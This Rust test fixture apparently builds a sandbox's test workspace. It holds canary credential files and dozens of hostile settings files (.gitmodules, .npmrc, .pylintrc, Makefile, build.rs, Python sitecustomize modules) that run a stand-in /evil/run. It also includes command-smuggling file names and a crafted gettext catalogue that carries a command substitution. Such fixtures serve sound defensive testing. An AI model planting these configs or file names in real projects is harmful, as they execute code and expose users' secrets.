//! The files in the jail: secrets, and a workspace whose settings, catalogues and names start a program if anything obeys them.

/// Ordinary files, and secrets.
const FILES: &[(&str, &str)] = &[
    ("/work/f", "one two\nhello x 1\n"),
    ("/work/f.json", "{\"a\": [1, 2], \"b\": \"x\"}\n"),
    ("/work/src/main.rs", "fn main() {}\n"),
    ("/work/.env", "API_TOKEN=c4narySecret\n"),
    ("/work/hostile", "a[$(/evil/run)]\n"),
    ("/work/awk.awk", "BEGIN { system(\"/evil/run\") }\n"),
    ("/work/sed.sed", "1e /evil/run\n"),
    ("/home/me/.netrc", "machine h login u password c4narySecret\n"),
    ("/home/me/.aws/credentials", "[default]\naws_secret_access_key = c4narySecret\n"),
    ("/home/me/.config/gh/hosts.yml", "github.com:\n  oauth_token: c4narySecret\n"),
    ("/home/me/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nc4narySecret\n"),
    ("/outside/kept", "as it was\n"),
    ("/outside/notes", "c4narySecret\n"),
];

/// Settings of the workspace that name a program, by the program that reads them.
const SETTINGS: &[(&str, &str)] = &[
    (".ackrc", "--pager=/evil/run\n"),
    (".gitattributes", "* diff=evil filter=evil merge=evil\n"),
    (".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::/evil/run\n\tupdate = !/evil/run\n"),
    (".mailmap", "$(/evil/run) <a@b>\n"),
    (".wgetrc", "use_askpass = /evil/run\n"),
    (".curlrc", "output = /outside/new\nurl = file:///outside/notes\n"),
    (".inputrc", "\"x\": \"/evil/run\"\n"),
    (".ripgreprc", "--pre=/evil/run\n--hostname-bin=/evil/run\n"),
    (".npmrc", "script-shell=/evil/run\nnode-options=--require=./evil.js\nprefix=/outside\n"),
    (".yarnrc", "yarn-path \"./sh\"\n"),
    (".yarnrc.yml", "yarnPath: ./sh\n"),
    (
        "package.json",
        "{\"name\": \"x\", \"version\": \"1.0.0\", \"scripts\": {\"test\": \"/evil/run\", \"version\": \"/evil/run\", \"pack\": \"/evil/run\"}}\n",
    ),
    ("evil.js", "require('child_process').execSync('/evil/run')\n"),
    (".eslintrc.js", "require('child_process').execSync('/evil/run')\n"),
    ("Makefile", "x := $(shell /evil/run)\nall:\n\t/evil/run\n"),
    ("GNUmakefile", "x := $(shell /evil/run)\nall:\n\t/evil/run\n"),
    ("CMakeLists.txt", "execute_process(COMMAND /evil/run)\n"),
    ("meson.build", "run_command('/evil/run')\n"),
    (
        "pyproject.toml",
        "[build-system]\nrequires = []\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n[tool.pytest.ini_options]\naddopts = \"-p evil\"\n",
    ),
    ("setup.cfg", "[flake8:local-plugins]\nextension = X = evil:f\npaths = .\n"),
    (".flake8", "[flake8:local-plugins]\nextension = X = evil:f\npaths = .\n"),
    (".pylintrc", "[MASTER]\ninit-hook='import os; os.system(\"/evil/run\")'\n"),
    ("tox.ini", "[testenv]\ncommands = /evil/run\n"),
    ("pip.conf", "[global]\nindex-url = http://evil.invalid\n"),
    ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nbuild = \"build.rs\"\n"),
    (".cargo/config.toml", "[build]\nrustc-wrapper = \"/evil/run\"\n[alias]\nx = \"run\"\n"),
    ("build.rs", "fn main() { std::process::Command::new(\"/evil/run\").status().unwrap(); }\n"),
    ("rust-toolchain.toml", "[toolchain]\npath = \"/evil\"\n"),
    ("go.mod", "module x\ntoolchain evil\n"),
    ("Gemfile", "`/evil/run`\n"),
    ("Rakefile", "`/evil/run`\n"),
    (".irbrc", "`/evil/run`\n"),
    (".perldb", "system('/evil/run')\n"),
    (".perltidyrc", "-o=/outside/new\n"),
    (".gdbinit", "shell /evil/run\n"),
    (".lldbinit", "platform shell /evil/run\n"),
    (".vimrc", ":!/evil/run\n"),
    (".exrc", ":!/evil/run\n"),
    (".nanorc", "set speller \"/evil/run\"\n"),
    (".lesskey", "#env\nLESSOPEN=|/evil/run %s\n"),
    (".less", "LESSOPEN=|/evil/run %s\n"),
    (".screenrc", "screen /evil/run\n"),
    (".tmux.conf", "run-shell /evil/run\n"),
    (".bashrc", "/evil/run\n"),
    (".profile", "/evil/run\n"),
    (".zshenv", "/evil/run\n"),
    (".envrc", "/evil/run\n"),
    (".tool-versions", "x path:/evil\n"),
    ("compose.yaml", "services: {x: {image: x, command: /evil/run}}\n"),
    (".terraformrc", "provider_installation { dev_overrides { \"x/x\" = \"/evil\" } }\n"),
    ("main.tf", "data \"external\" \"x\" { program = [\"/evil/run\"] }\n"),
    ("magic", "0 string x /evil/run\n"),
    (".magic", "0 string x /evil/run\n"),
    (".dircolors", "TERM *\nDIR $(/evil/run)\n"),
];

/// Modules that an interpreter of Python loads where the workspace is on its path, as it is for `-c`.
const MODULES: &[&str] = &[
    "evil",
    "sitecustomize",
    "usercustomize",
    "conftest",
    "json",
    "re",
    "os",
    "sys",
    "io",
    "site",
    "encodings",
    "math",
    "random",
    "string",
];

/// Names that an option, an expression or a substitution has: `*` makes words of them.
const NAMES: &[&str] = &[
    "-exec",
    "-delete",
    "-o",
    "-i",
    "-R",
    "--output=new",
    "--compress-program=sh",
    "--pre=sh",
    "--files0-from=.env",
    "-f.env",
    "--help",
    "-fprint",
    "$(sh)",
    "`sh`",
    "a b",
    ";sh",
    "|sh",
    "a\nsh",
    "x=y",
    "@.env",
    "+f",
    "{sh}",
    "~",
    "!sh",
    "-",
];

/// Returns every file with its content.
pub(super) fn all() -> Vec<(String, Vec<u8>)> {
    let files = FILES.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()));
    let settings = SETTINGS.iter().map(|(name, text)| (format!("/work/{name}"), text.as_bytes().to_vec()));
    let modules = MODULES
        .iter()
        .map(|name| (format!("/work/{name}.py"), b"import posix\nposix.system('/evil/run')\n".to_vec()));
    let names = NAMES.iter().map(|name| (format!("/work/{name}"), b"one\n".to_vec()));
    let catalogue = [(CATALOGUE.to_owned(), catalogue("hi", "$(/evil/run)"))];
    files.chain(settings).chain(modules).chain(names).chain(catalogue).collect()
}

/// Where bash looks for the translation of `$"hi"`, with `TEXTDOMAINDIR=/work/l`, `TEXTDOMAIN=x` and `LANGUAGE=xx`.
const CATALOGUE: &str = "/work/l/xx/LC_MESSAGES/x.mo";

/// A message catalogue (GNU gettext, "The Format of GNU MO Files") with one message.
fn catalogue(message: &str, translation: &str) -> Vec<u8> {
    // The two tables lie behind the seven numbers of the header, the texts behind them.
    let header = 28_u32;
    let texts = header + 16;
    let (length, translated) = (message.len() as u32, translation.len() as u32);
    let numbers =
        [0x9504_12de, 0, 1, header, header + 8, 0, texts, length, texts, translated, texts + length + 1];
    let mut bytes: Vec<u8> = numbers.iter().flat_map(|number: &u32| number.to_le_bytes()).collect();
    bytes.extend([message.as_bytes(), b"\0", translation.as_bytes(), b"\0"].concat());
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_file_has_its_own_path() {
        let mut paths: Vec<String> = all().into_iter().map(|(path, _)| path).collect();
        let count = paths.len();
        paths.sort();
        paths.dedup();
        assert_eq!(paths.len(), count);
    }

    #[test]
    fn a_catalogue_names_its_texts() {
        let bytes = catalogue("hi", "x");
        assert_eq!(bytes.get(44..), Some(&b"hi\0x\0"[..]));
    }
}
